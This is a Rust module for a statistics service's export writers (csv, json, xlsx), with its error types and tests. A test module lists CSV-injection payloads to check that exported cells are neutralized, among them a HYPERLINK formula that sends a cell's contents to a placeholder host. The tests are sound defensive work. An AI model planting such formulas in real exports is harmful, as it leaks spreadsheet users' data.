//! Export file writers: rows of [`Cell`]s under [`Column`]s, streamed to a csv, json, json lines
//! or xlsx file.
//!
//! The runs open every result file through [`writer_for`]: the export's [`ExportFormat`], a
//! [`Target`] (a file, or a byte sink such as a streaming upload, for the formats that
//! [`streams`] says can be written front to back) and the file's [`Contents`]. Each format is one
//! file of this folder holding its [`RowWriter`] implementation and its `FORMAT` (what
//! [`writer_for`] and [`streams`] know of it); adding a format is that file plus one arm of
//! `format`'s match. The per-format constructors ([`csv_writer`], [`json_writer`],
//! [`json_lines_writer`], [`xlsx_writer`], and [`csv_writer_to`], [`json_lines_writer_to`] into
//! any byte sink) stay public for the benchmarks and the formats' own tests.
//!
//! The caller feeds rows one at a time with [`RowWriter::write_row`] and ends with
//! [`RowWriter::finish`]; no writer holds more than a row (plus its file buffer) in memory.
//!
//! In every format a [`Cell::Count`] is a number and a [`Cell::Text`] a string.

mod csv;
mod json;
mod xlsx;

use std::fs::File;
use std::io::{BufWriter, Write};
use std::path::Path;

use statport_core::request::ExportFormat;
use statport_core::table::{Cell, Column, Language};

use crate::temp_disk::{BudgetedWriter, Reservation};

pub use self::csv::{csv_writer, csv_writer_to};
pub use self::json::{json_lines_writer, json_lines_writer_to, json_writer};
pub use self::xlsx::xlsx_writer;

/// Where the bytes of an export file go.
pub enum Target<'a> {
    /// A file created (or truncated) at this path: every format can be written there.
    File(&'a Path),
    /// A file on the worker's temp disk, created (or truncated) at `path`, its bytes held in
    /// `disk` before they are written (which the caller keeps while the file exists): every
    /// format can be written there. csv and json are counted exactly; xlsx by estimate while
    /// its worksheets go to the library's unnamed temporary files, then exactly for the archive
    /// (see [`xlsx_writer`]). A refusal fails the write; [`Reservation::refused`] says so.
    BudgetedFile {
        /// Where the file is created.
        path: &'a Path,
        /// Its bytes in the temp disk budget.
        disk: &'a mut Reservation,
    },
    /// A byte sink written front to back, such as a streaming upload; only for the formats
    /// [`streams`] accepts. [`RowWriter::finish`] flushes it and drops it.
    Stream(Box<dyn Write + Send + 'a>),
}

/// What an export file holds, beyond its format: the columns, the language of the headers, and
/// whether its rows are aggregate rows or raw log lines (the json format writes the former as
/// one array and the latter as JSON Lines).
#[derive(Debug, Clone, Copy)]
pub struct Contents<'a> {
    /// The file's columns, in order; every row has one cell per column.
    pub columns: &'a [Column],
    /// The language of the header row (csv, xlsx).
    pub language: Language,
    /// What the rows are.
    pub rows: RowKind,
    /// csv only: neutralize text cells a spreadsheet would run as a formula (see
    /// [`csv::escape_formula`]). xlsx writes every text as a string cell and json as a JSON
    /// string, so neither runs anything and both keep the text as it is.
    pub escape_formulas: bool,
}

/// What the rows of an export file are, for the formats that lay the two out differently.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RowKind {
    /// The rows of a statistics export (json: one array of objects).
    Aggregate,
    /// The rows of a `logs` export, one per log line (json: JSON Lines).
    LogLines,
}

/// What this module knows of one export format; each format's file defines its `FORMAT`.
struct FileFormat {
    /// Whether the format is written front to back, so it can go to a [`Target::Stream`]; xlsx,
    /// a zip archive written with seeks, needs a [`Target::File`].
    streams: bool,
    /// Opens a writer of the format on a target.
    open:
        for<'a> fn(Target<'a>, Contents<'_>) -> Result<Box<dyn RowWriter + Send + 'a>, OutputError>,
}

/// The one place a format is chosen: adding an output format is its file plus an arm here.
fn format(format: ExportFormat) -> &'static FileFormat {
    match format {
        ExportFormat::Csv => &self::csv::FORMAT,
        ExportFormat::Json => &self::json::FORMAT,
        ExportFormat::Xlsx => &self::xlsx::FORMAT,
    }
}

/// A writer of `format` into `target`, holding `contents`; the one entry point of the runs.
/// A [`Target::Stream`] for a format that does not [`stream`](streams) is
/// [`OutputError::NeedsFile`].
pub fn writer_for<'a>(
    export_format: ExportFormat,
    target: Target<'a>,
    contents: Contents<'_>,
) -> Result<Box<dyn RowWriter + Send + 'a>, OutputError> {
    let known = format(export_format);
    if !known.streams && matches!(target, Target::Stream(_)) {
        return Err(OutputError::NeedsFile(export_format.extension()));
    }
    (known.open)(target, contents)
}

/// Whether files of `export_format` can be written into a [`Target::Stream`] (front to back,
/// no seeks), so a run can upload them while it writes them instead of through a file.
pub fn streams(export_format: ExportFormat) -> bool {
    format(export_format).streams
}

/// Writes the rows of one export file, in one format.
///
/// Rows must have exactly one cell per column, in column order. Dropping a writer without
/// calling [`RowWriter::finish`] leaves an incomplete file behind (for xlsx, none at all).
pub trait RowWriter {
    /// Appends one row; fails with [`OutputError::RowLength`] when the row does not have one
    /// cell per column.
    fn write_row(&mut self, row: &[Cell]) -> Result<(), OutputError>;

    /// Finishes the file (flushes; for xlsx saves the workbook); returns rows written.
    fn finish(self: Box<Self>) -> Result<u64, OutputError>;
}

/// Why an export file could not be written.
#[derive(Debug, thiserror::Error)]
pub enum OutputError {
    /// The export was given no columns.
    #[error("an export needs at least one column")]
    NoColumns,
    /// A row's length differs from the number of columns.
    #[error("row has {actual} cells but the export has {expected} columns")]
    RowLength {
        /// The number of columns.
        expected: usize,
        /// The number of cells in the row.
        actual: usize,
    },
    /// Creating, writing or flushing the file failed.
    #[error("writing the export file: {0}")]
    Io(#[from] std::io::Error),
    /// The csv writer failed (usually an I/O error underneath).
    #[error("writing csv: {0}")]
    Csv(#[from] ::csv::Error),
    /// Serializing or writing json failed (usually an I/O error underneath).
    #[error("writing json: {0}")]
    Json(#[from] serde_json::Error),
    /// The xlsx writer reported an error.
    #[error("writing xlsx: {0}")]
    Xlsx(#[from] rust_xlsxwriter::XlsxError),
    /// The xlsx library panicked (it panics when its constant-memory temporary file cannot be
    /// written, e.g. on a full disk); the workbook is unusable afterwards.
    #[error("writing xlsx failed: {0}")]
    XlsxAborted(String),
    /// A format written with seeks was given a byte stream instead of a file (the caller did
    /// not check [`streams`]).
    #[error("the {0} format is written with seeks and needs a file, not a stream")]
    NeedsFile(&'static str),
}

/// The buffered file of a [`Target::BudgetedFile`]: every flushed buffer reserved in `disk`
/// first.
fn create_within<'a>(
    path: &Path,
    disk: &'a mut Reservation,
) -> std::io::Result<BufWriter<BudgetedWriter<'a, File>>> {
    Ok(BufWriter::new(BudgetedWriter::new(
        File::create(path)?,
        disk,
    )))
}

/// Checks that an export has columns and copies them for a writer to keep.
fn owned_columns(columns: &[Column]) -> Result<Vec<Column>, OutputError> {
    if columns.is_empty() {
        return Err(OutputError::NoColumns);
    }
    Ok(columns.to_vec())
}

/// Checks that `row` has one cell per column.
fn check_row(columns: &[Column], row: &[Cell]) -> Result<(), OutputError> {
    if row.len() == columns.len() {
        Ok(())
    } else {
        Err(OutputError::RowLength {
            expected: columns.len(),
            actual: row.len(),
        })
    }
}

#[cfg(test)]
pub(crate) mod test_support {
    //! Temporary files for the writers' tests.

    use std::path::{Path, PathBuf};
    use std::sync::atomic::{AtomicU64, Ordering};

    static NEXT: AtomicU64 = AtomicU64::new(0);

    /// A unique path in the temp dir, removed when dropped.
    pub(crate) struct TempPath(PathBuf);

    impl TempPath {
        /// A fresh path ending in `.{extension}`; the file is not created.
        pub(crate) fn new(extension: &str) -> Self {
            let n = NEXT.fetch_add(1, Ordering::Relaxed);
            let name = format!(
                "statport-output-test-{}-{n}.{extension}",
                std::process::id()
            );
            TempPath(std::env::temp_dir().join(name))
        }

        /// The path.
        pub(crate) fn path(&self) -> &Path {
            &self.0
        }
    }

    impl Drop for TempPath {
        fn drop(&mut self) {
            let _ = std::fs::remove_file(&self.0);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn check_row_accepts_matching_length_only() {
        let columns = [Column::Time, Column::Flux];
        assert!(check_row(&columns, &[Cell::Text("t".into()), Cell::Count(1)]).is_ok());
        assert!(matches!(
            check_row(&columns, &[Cell::Count(1)]),
            Err(OutputError::RowLength {
                expected: 2,
                actual: 1
            })
        ));
    }

    #[test]
    fn no_columns_is_an_error() {
        assert!(matches!(owned_columns(&[]), Err(OutputError::NoColumns)));
    }

    /// Writes `rows` rows of two cells into a budgeted file of `format`; returns the file's
    /// size and the bytes still held, or the refusal.
    fn budgeted(
        format: ExportFormat,
        limit: u64,
        rows: usize,
    ) -> (Result<u64, OutputError>, crate::temp_disk::Reservation, u64) {
        let tmp = test_support::TempPath::new(format.extension());
        let budget = crate::temp_disk::TempDiskBudget::new(limit);
        let mut disk = budget.empty();
        let columns = [Column::Path, Column::Bytes];
        let written = writer_for(
            format,
            Target::BudgetedFile {
                path: tmp.path(),
                disk: &mut disk,
            },
            Contents {
                columns: &columns,
                language: Language::En,
                rows: RowKind::LogLines,
                escape_formulas: true,
            },
        )
        .and_then(|mut writer| {
            for i in 0..rows {
                writer
                    .write_row(&[Cell::Text(format!("/a/{i}?x=1&y=2")), Cell::Count(i as u64)])?;
            }
            writer.finish()
        });
        let size = std::fs::metadata(tmp.path()).map_or(0, |m| m.len());
        (written, disk, size)
    }

    #[test]
    fn a_budgeted_file_holds_its_size_and_a_refusal_fails_the_write() {
        for format in [ExportFormat::Csv, ExportFormat::Json, ExportFormat::Xlsx] {
            let (written, disk, size) = budgeted(format, u64::MAX, 2_000);
            assert_eq!(written.expect("written"), 2_000, "{format:?}");
            assert!(size > 0);
            assert_eq!(
                disk.bytes(),
                size,
                "{format:?}: the file's size, once written"
            );
            assert!(disk.refused().is_none());

            let (written, disk, size) = budgeted(format, 4_096, 2_000);
            assert!(written.is_err(), "{format:?}: past the bound");
            assert!(disk.refused().is_some(), "{format:?}: the refusal is kept");
            assert!(disk.bytes() <= 4_096 && size <= 4_096, "{format:?}");
        }
    }
}

#[cfg(test)]
mod formula_tests {
    //! CSV injection (CWE-1236): text a request put in the logs, written into each format.

    use calamine::{open_workbook, Data, Reader, Xlsx};

    use super::test_support::TempPath;
    use super::*;

    /// Texts that run as formulas when a spreadsheet opens them as written, and the lone `-` of
    /// an absent value, which does not.
    const HOSTILE: [&str; 7] = [
        "=HYPERLINK(\"http://x/?\"&A1,\"x\")",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\tcmd",
        "\rcmd",
        "-",
    ];

    fn write(format: ExportFormat, escape_formulas: bool) -> TempPath {
        let tmp = TempPath::new(format.extension());
        let columns = [Column::Ua, Column::Referer];
        let mut writer = writer_for(
            format,
            Target::File(tmp.path()),
            Contents {
                columns: &columns,
                language: Language::En,
                rows: RowKind::LogLines,
                escape_formulas,
            },
        )
        .expect("writer");
        for text in HOSTILE {
            writer
                .write_row(&[Cell::Text(text.into()), Cell::Text("ok".into())])
                .expect("row");
        }
        writer.finish().expect("finish");
        tmp
    }

    #[test]
    fn csv_neutralizes_formula_like_cells_unless_turned_off() {
        let escaped = ::csv::ReaderBuilder::new()
            .from_path(write(ExportFormat::Csv, true).path())
            .expect("read")
            .records()
            .map(|r| r.expect("record")[0].to_owned())
            .collect::<Vec<_>>();
        let mut expected: Vec<String> = HOSTILE[..6].iter().map(|t| format!("'{t}")).collect();
        expected.push("-".into());
        assert_eq!(escaped, expected);
        let raw = ::csv::ReaderBuilder::new()
            .from_path(write(ExportFormat::Csv, false).path())
            .expect("read")
            .records()
            .map(|r| r.expect("record")[0].to_owned())
            .collect::<Vec<_>>();
        assert_eq!(raw, HOSTILE.map(String::from).to_vec());
    }

    #[test]
    fn json_and_xlsx_keep_the_text_as_data() {
        let json = std::fs::read_to_string(write(ExportFormat::Json, true).path()).expect("read");
        let uas: Vec<String> = json
            .lines()
            .map(|line| {
                let v: serde_json::Value = serde_json::from_str(line).expect("json line");
                v["ua"].as_str().expect("ua").to_owned()
            })
            .collect();
        assert_eq!(uas, HOSTILE.map(String::from).to_vec());

        let tmp = write(ExportFormat::Xlsx, true);
        let mut book: Xlsx<_> = open_workbook(tmp.path()).expect("open");
        let sheet = book.sheet_names()[0].clone();
        let range = book.worksheet_range(&sheet).expect("sheet");
        let cells: Vec<Data> = (1..=HOSTILE.len())
            .map(|row| range.get((row, 0)).cloned().expect("cell"))
            .collect();
        assert_eq!(
            cells,
            HOSTILE.map(|t| Data::String(t.to_owned())).to_vec(),
            "string cells, as written"
        );
        let formulas = book.worksheet_formula(&sheet).expect("formulas");
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "no cell holds a formula"
        );
    }
}
